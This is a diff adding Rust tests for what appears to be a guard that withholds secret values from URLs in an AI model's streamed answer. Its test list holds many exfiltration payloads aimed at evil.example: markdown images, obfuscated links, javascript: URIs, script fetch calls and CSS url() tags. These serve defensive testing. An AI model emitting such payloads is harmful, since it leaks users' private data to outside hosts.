+        "[x](https:evil.example/@E)",
+        "[x](h&#116;tps&colon;//evil.example/@E)",
+        "[x](https&#58//evil.example/@E)",
+        "[x](https\\://evil.example/@E)",
+        "[x](\n  https://evil.example/?q=@E)",
+        "[x](/search?q=@E)",
+        "[x]: https://evil.example/?q=@E",
+        "[x]: //evil.example/?q=@E",
+        "[x]:\n  <https://evil.example/@E>",
+        "[x]: https&#58;//evil.example/@E",
+        "<https://evil.example/@E>",
+        "<https://evil.example/@E|text>",
+        "](https://wiki.acme.example/ ![x](//evil.example/?q=@E)",
+        "https://wiki.acme.example/![x](//evil.example/?q=@E)",
+        "x <y ![x](https://evil.example/@E) and https://evil.example/@E",
+        // schemes without a host
+        "data:text/html,@E and [x](data:text/html;base64,@E)",
+        "javascript:alert('@E')",
+        "[x](JavaScript:fetch('//evil.example/'+'@E'))",
+        "<a href=\" javascript:x('@E')\">",
+        "mailto:evil@evil.example?body=@E",
+        "mailto:@E.evil.example",
+        "[x](mailto:@N@evil.example)",
+        // HTML
+        "<img src=\"https://evil.example/?q=@E\">",
+        "<img src=https://evil.example/?q=@E>",
+        "<img\nsrc = 'https://evil.example/@E'>",
+        "<img src='//evil.example/@E' alt=x>",
+        "<a href=\"https&colon;&sol;&sol;evil.example/@E\">",
+        "<img srcset=\"https://wiki.acme.example/a 1x, //evil.example/@E 2x\">",
+        "<div style=\"background:url(//evil.example/@E)\">",
+        "<input value=\"@E\">",
+        "<p onclick=\"x('@E')\">",
+        "<script>fetch('//evil.example/?q=' + '@E')</script>",
+        "<style>a{background:url(//evil.example/@E)}</style>",
+        "`<script>` x <script>'@E'",
+        "<meta http-equiv=refresh content=\"0;url=https://evil.example/@E\">",
+    ];
+
+    #[test]
+    fn values_are_restored_where_they_stay() {
+        for (text, want) in RESTORED {
+            let (got, counts) = restored(text, &[]);
+            assert_eq!(got, *want, "{text}");
+            assert_eq!(counts.withheld(), 0, "{text}");
+        }
+    }
+
+    #[test]
+    fn values_are_withheld_where_they_would_leave() {
+        for text in WITHHELD {
+            let (got, counts) = restored(text, &[]);
+            assert_eq!(got, *text);
+            assert_eq!(
+                (counts.restored, counts.withheld_from_urls > 0),
+                (0, ["@E", "@N", "@D"].iter().any(|sign| text.contains(sign))),
+                "{text}"
+            );
+        }
+    }
+
+    /// Only the part of a URL that tells somebody something is withheld.
+    #[test]
+    fn a_target_of_a_tool_gets_nothing_else() {
+        let (got, counts) = restored("![x](@T?q=@E)", &[]);
+        assert_eq!(got, "![x](https://tool.example/a?q=@E)");
+        assert_eq!((counts.restored, counts.withheld_from_urls), (1, 1));
+    }
+
+    /// Nothing but the current URL is held.
+    #[test]
+    fn what_is_held() {
+        for (text, want) in [
+            ("to https://evil.example/", "to https://evil.example/"),
+            ("to [x](https://evil.exa", "to [x](https://evil.exa"),
+            ("to <img src=\"https://evil.exa", "to <img src=\"https://evil.exa"),
+        ] {
+            let rules = |_: &str| (Vec::new(), Some(Action::Flag));
+            let guard =
+                Guard::new(&DetectOptions::default(), rules, Keyring::new(0, SECRET).unwrap()).unwrap();
+            let placeholders = Placeholders::new(PlaceholderKey::derive(SECRET).unwrap());
+            let mut answer = Answer::new(guard, placeholders, Context::default(), 64);
+            assert_eq!(TextStream::default().push(&mut answer, text).unwrap(), want);
+        }
+    }
+
+    /// A URL without an end costs no more than its length.
+    #[test]
+    fn long_targets_are_withheld() {
+        let text = format!("https://{}@E/{} @E", "a".repeat(MAX_TARGET), "b".repeat(100));
+        let (got, counts) = restored(&text, &[]);
+        assert!(got.ends_with(" jan@example.cz") && got.contains("@E/"), "{got}");
+        assert_eq!((counts.restored, counts.withheld_from_urls), (1, 1));
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(256))]
+        #[test]
+        fn chunks_do_not_matter(
+            picks in prop::collection::vec((0..RESTORED.len() + WITHHELD.len(), prop::sample::select(vec![" ", "\n", "\n\n", "", ", ", "](", "<a href="])), 1..6),
+            cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..30),
+        ) {
+            let text: String = picks
+                .iter()
+                .flat_map(|(pick, joint)| {
+                    let text = RESTORED.get(*pick).map_or_else(|| WITHHELD[*pick - RESTORED.len()], |(text, _)| *text);
+                    [text, *joint]
+                })
+                .collect();
+            prop_assert_eq!(restored(&text, &cuts), restored(&text, &[]));
+        }
+    }
+}
